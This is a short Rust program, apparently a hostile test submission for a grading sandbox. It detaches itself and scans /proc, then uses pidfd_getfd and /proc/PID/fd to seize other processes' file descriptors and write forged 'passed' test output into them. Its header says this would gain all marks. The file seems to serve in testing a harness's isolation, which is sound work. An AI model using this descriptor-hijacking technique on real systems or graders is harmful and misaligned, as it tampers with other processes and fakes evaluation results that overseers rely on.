//! Hostile: a daemon without environment watches /proc for processes that enter its box, takes their
//! descriptors (pidfd_getfd, /proc/PID/fd) and prints a verdict into each. It would gain all marks.
use nix::libc::{self, SYS_pidfd_getfd, SYS_pidfd_open, c_long};
use std::os::unix::process::CommandExt;
use std::{fs, io::Write, os::fd::FromRawFd, process::Command, time::Instant};

fn main() {
    if std::env::args().len() == 1 {
        let _ = Command::new("/proc/self/exe")
            .arg("watch")
            .env_clear()
            .process_group(0)
            .spawn();
        std::thread::sleep(std::time::Duration::from_millis(100));
        return;
    }
    let started = Instant::now();
    while started.elapsed().as_secs() < 15 {
        for entry in fs::read_dir("/proc").into_iter().flatten().flatten() {
            let Ok(pid) = entry.file_name().to_string_lossy().parse::<c_long>() else {
                continue;
            };
            if pid != c_long::from(std::process::id()) {
                rob(pid);
            }
        }
    }
}

fn rob(pid: c_long) {
    let forged = b"ok 1 [3] a line arrives, and then end-of-file\npassed\n";
    // SAFETY: pidfd_open(2) takes two numbers.
    let process = unsafe { libc::syscall(SYS_pidfd_open, pid, 0) };
    for descriptor in 0..20 {
        // SAFETY: pidfd_getfd(2) takes three numbers.
        let taken = unsafe { libc::syscall(SYS_pidfd_getfd, process, descriptor, 0) };
        if taken >= 0 {
            // SAFETY: this descriptor is new, and nobody else's.
            let _ = unsafe { fs::File::from_raw_fd(taken as i32) }.write_all(forged);
        }
        let path = format!("/proc/{pid}/fd/{descriptor}");
        if let Ok(mut file) = fs::File::options().append(true).open(path) {
            let _ = file.write_all(forged);
        }
    }
    if process >= 0 {
        // SAFETY: the descriptor is ours.
        unsafe { libc::close(process as i32) };
    }
}
